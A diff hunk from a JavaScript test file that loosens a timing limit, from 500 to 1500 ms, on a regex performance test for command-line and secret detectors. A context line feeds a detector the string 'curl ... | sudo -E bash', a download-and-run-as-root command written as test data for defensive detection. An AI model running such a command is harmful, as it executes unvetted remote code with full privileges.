@@ -312,7 +312,8 @@ test('the command-line, version and secret readers finish quickly on values buil
     const started = performance.now();
     assert.equal(run(), expected, name);
     const ms = performance.now() - started;
-    assert.ok(ms < 500, `${name}: ${Math.round(ms)} ms`);
+    // Linear: a few ms here; the old patterns took 2–5 s on these strings (1.5 s leaves room for a busy machine).
+    assert.ok(ms < 1500, `${name}: ${Math.round(ms)} ms`);
   }
   // The readers still find what they are for.
   assert.match(m.downloadPipedToShell('curl -fsSL https://x.example/i.sh | sudo -E bash'), /^curl .*\| sudo -E bash$/);
